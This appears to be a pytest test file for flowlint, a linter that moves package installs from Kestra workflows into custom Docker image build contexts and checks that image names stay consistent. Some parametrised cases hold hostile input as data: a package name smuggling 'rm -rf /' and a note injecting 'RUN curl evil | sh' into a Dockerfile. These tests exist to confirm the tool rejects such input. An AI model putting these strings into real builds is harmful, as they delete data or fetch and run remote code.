"""The custom-image journey: `flowlint image` and `flowlint check --fix --strategy
custom-image` name the same images, whichever runs first, and a name never covers two base
images or two package sets."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from ruamel.yaml import YAML

from flowlint.cli import main
from flowlint.remedy_files.image_contexts import build_image_contexts

TEMPLATE = "reg.example/{namespace}/{flow}-{task}:1"

ETL = """\
id: etl
namespace: company.team
tasks:
  - id: transform
    type: io.kestra.plugin.scripts.python.Commands
    containerImage: python:3.12-slim
    beforeCommands:
      - pip install pandas==2.2.2 requests
      - apt-get update && apt-get install -y jq
    commands:
      - python transform.py
  - id: report
    type: io.kestra.plugin.scripts.python.Script
    script: |
      import subprocess, sys
      subprocess.check_call([sys.executable, "-m", "pip", "install", "tabulate==0.9.0"])
      import tabulate
      print(tabulate.tabulate([[1, 2]]))
  - id: fetch
    type: io.kestra.plugin.scripts.shell.Commands
    containerImage: alpine:3.20
    beforeCommands:
      - apk add --no-cache curl
    commands:
      - curl -s https://example.com
"""

LEGACY = """\
id: old
namespace: company.team
tasks:
  - id: legacy
    type: io.kestra.core.tasks.scripts.Python
    runner: DOCKER
    dockerOptions:
      image: python:3.11
    requirements:
      - pyarrow==16.1.0
    commands:
      - ./bin/python main.py
"""


def project(root: Path) -> Path:
    flows = root / "flows"
    flows.mkdir(parents=True)
    (flows / "etl.yaml").write_text(ETL, encoding="utf-8")
    (flows / "old.yaml").write_text(LEGACY, encoding="utf-8")
    return flows


def run(args: list[str], capsys) -> tuple[int, str]:
    code = main(args)
    return code, capsys.readouterr().err


def fix(flows: Path, capsys) -> None:
    code, err = run(["check", "--fix", "--unsafe-fixes", "--strategy", "custom-image",
                     "--select", "FL001,FL002,FL003,FL009", "--image", TEMPLATE, str(flows)],
                    capsys)
    assert code == 0, err


def image(flows: Path, output: Path, capsys) -> str:
    code, err = run(["image", str(flows), "--output", str(output), "--image", TEMPLATE],
                    capsys)
    assert code == 0
    return err


def build_files(output: Path) -> dict[str, str]:
    """Each context's files without their comment lines (which tell the tasks' state)."""
    return {str(path.relative_to(output)): "".join(
                line for line in path.read_text().splitlines(keepends=True)
                if not line.startswith("#"))
            for path in sorted(output.rglob("*")) if path.is_file()}


def images_in(flows: Path) -> set[str]:
    """The images the flows' tasks name (containerImage or docker.image)."""
    found = set()
    for path in flows.glob("*.yaml"):
        for task in YAML(typ="safe").load(path.read_text())["tasks"]:
            found.add(task.get("containerImage") or task.get("docker", {}).get("image"))
    return found


def test_both_orders_write_the_same_contexts_for_the_images_the_flows_name(
        tmp_path: Path, capsys) -> None:
    first = project(tmp_path / "image-first")
    assert image(first, tmp_path / "image-first" / "out", capsys) == ""
    fix(first, capsys)
    assert image(first, tmp_path / "image-first" / "again", capsys) == ""

    second = project(tmp_path / "fix-first")
    fix(second, capsys)
    assert image(second, tmp_path / "fix-first" / "out", capsys) == ""

    before_fix = build_files(tmp_path / "image-first" / "out")
    assert before_fix == build_files(tmp_path / "image-first" / "again")
    assert before_fix == build_files(tmp_path / "fix-first" / "out")
    assert (first / "etl.yaml").read_text() == (second / "etl.yaml").read_text()

    named = images_in(second)
    assert named == {"reg.example/company.team/etl-transform:1",
                     "reg.example/company.team/etl-report:1",
                     "reg.example/company.team/etl-fetch:1",
                     "reg.example/company.team/old-legacy:1"}
    contexts = build_image_contexts([str(second)], image_template=TEMPLATE).contexts
    assert set(contexts) == named

    transform = before_fix["reg.example-company.team-etl-transform-1/Dockerfile"]
    assert transform.startswith("FROM python:3.12-slim\nRUN apt-get update \\\n")
    assert "--no-install-recommends jq \\\n" in transform
    assert before_fix["reg.example-company.team-etl-transform-1/requirements.txt"] == \
        "pandas==2.2.2\nrequests\n"
    assert before_fix["reg.example-company.team-etl-report-1/requirements.txt"] == \
        "tabulate==0.9.0\n"
    assert before_fix["reg.example-company.team-etl-fetch-1/Dockerfile"] == \
        "FROM alpine:3.20\nRUN apk add --no-cache curl\n"
    assert "reg.example-company.team-etl-fetch-1/requirements.txt" not in before_fix
    assert before_fix["reg.example-company.team-old-legacy-1/Dockerfile"].startswith(
        "FROM python:3.11\n")


def test_a_second_fix_adds_to_the_task_note(tmp_path: Path, capsys) -> None:
    flows = project(tmp_path)
    fix(flows, capsys)
    text = (flows / "etl.yaml").read_text()
    notes = [json.loads(line.split("# flowlint-image:", 1)[1])
             for line in text.splitlines() if "# flowlint-image:" in line]
    transform = next(note for note in notes if note["task"] == "transform")
    # FL001 moved the pip packages, then FL009 the apt ones, into the same image.
    assert transform == {"image": "reg.example/company.team/etl-transform:1",
                         "namespace": "company.team", "flow": "etl", "task": "transform",
                         "from": "python:3.12-slim", "pip": ["pandas==2.2.2", "requests"],
                         "apt-get": ["jq"]}
    assert text.count("# flowlint-image:") == 3


TWO_TASKS = """\
id: etl
namespace: company.team
tasks:
  - id: a
    type: io.kestra.plugin.scripts.python.Commands
    containerImage: python:3.12-slim
    beforeCommands: [pip install pandas]
    commands: [python a.py]
  - id: b
    type: io.kestra.plugin.scripts.python.Commands
    containerImage: python:3.12-slim
    beforeCommands: [pip install {package}]
    commands: [python b.py]
"""


def test_one_name_for_two_package_sets_is_refused_by_the_fix_and_by_image(
        tmp_path: Path, capsys) -> None:
    path = tmp_path / "etl.yaml"
    path.write_text(TWO_TASKS.format(package="polars"))
    code = main(["check", "--fix", "--unsafe-fixes", "--strategy", "custom-image", "--select",
                 "FL001", "--image", "reg.example/{flow}:1", str(path)])
    out = capsys.readouterr().out
    assert code == 1
    assert "image 'reg.example/etl:1' is already meant for 'a' of company.team/etl" in out
    assert "put {task} in --image" in out
    assert "pip install polars" in path.read_text()   # b is left as it was

    # Identical needs share the name.
    same = tmp_path / "same"
    same.mkdir()
    (same / "etl.yaml").write_text(TWO_TASKS.format(package="pandas"))
    assert main(["check", "--fix", "--unsafe-fixes", "--strategy", "custom-image", "--select",
                 "FL001", "--image", "reg.example/{flow}:1", str(same)]) == 0
    capsys.readouterr()
    plan = build_image_contexts([str(same)], image_template="reg.example/{flow}:1")
    assert plan.problems == []
    [context] = plan.contexts.values()
    assert [ref.task for ref in context.tasks] == ["a", "b"]


@pytest.mark.parametrize(("command", "why"), [
    ("npm install -g typescript", "installs Node.js packages, which `flowlint image` does not"),
    ("apt-get install -y 'jq;rm -rf /'", "is not a package name"),
    ("apt-get install -y \"$PKG\"", "expanded by the shell"),
])
def test_what_image_cannot_build_the_fix_does_not_remove(tmp_path: Path, command: str,
                                                          why: str, capsys) -> None:
    path = tmp_path / "web.yaml"
    text = ("id: web\nnamespace: company.team\ntasks:\n  - id: build\n"
            "    type: io.kestra.plugin.scripts.node.Commands\n    containerImage: node:20\n"
            f"    beforeCommands:\n      - {json.dumps(command)}\n    commands: [node app.js]\n")
    path.write_text(text)
    main(["check", "--fix", "--unsafe-fixes", "--strategy", "custom-image", "--select", "FL009",
          "--image", TEMPLATE, str(path)])
    out = capsys.readouterr().out
    assert path.read_text() == text
    assert why in out

    plan = build_image_contexts([str(path)], image_template=TEMPLATE)
    assert plan.contexts == {}
    assert any(why in problem for problem in plan.problems)


NOTE = ('{"image": "reg.example/company.team/etl-transform:1", "namespace": "company.team", '
        '"flow": "etl", "task": "transform", "from": "python:3.12-slim", "pip": %s}')
FIXED = """\
id: etl
namespace: company.team
tasks:
  - id: transform
    type: io.kestra.plugin.scripts.python.Commands
    containerImage: %s
    commands:
      - python transform.py
    # flowlint-image: %s
"""


@pytest.mark.parametrize(("image_name", "pip", "problem"), [
    ("reg.example/company.team/etl-transform:1", '["pandas\\nRUN curl evil | sh"]',
     "holds 'pandas\\nRUN curl evil | sh'"),
    ("reg.example/company.team/etl-transform:1", '["--extra-index-url=https://evil"]',
     "is not a URL of one word"),
    ("reg.example/company.team/etl-transform:1", '"pandas"', "is not a list of texts"),
    ("reg.example/company.team/etl-transform:1", '["pandas"], "run": ["evil"]',
     "unknown keys: run"),
    ("reg.example/company.team/etl-transform:1", '["pandas"', "is not valid JSON"),
    ("python:3.12-slim", '["pandas"]', "runs 'python:3.12-slim', not"),
])
def test_notes_are_checked_before_they_are_built(tmp_path: Path, image_name: str, pip: str,
                                                 problem: str) -> None:
    path = tmp_path / "etl.yaml"
    path.write_text(FIXED % (image_name, NOTE % pip))
    plan = build_image_contexts([str(path)], image_template=TEMPLATE)
    assert plan.contexts == {}
    [reported] = plan.problems
    assert reported.startswith(f"{path}:9: flowlint-image note")
    assert problem in reported
    assert reported.isprintable()


def test_a_note_for_a_task_that_is_gone_is_reported(tmp_path: Path) -> None:
    path = tmp_path / "etl.yaml"
    path.write_text((FIXED % ("reg.example/company.team/etl-transform:1", NOTE % '["pandas"]'))
                    .replace("id: transform", "id: renamed"))
    plan = build_image_contexts([str(path)], image_template=TEMPLATE)
    assert plan.contexts == {}
    assert "names task 'transform' of company.team/etl, which is not in this file" in \
        plan.problems[0]
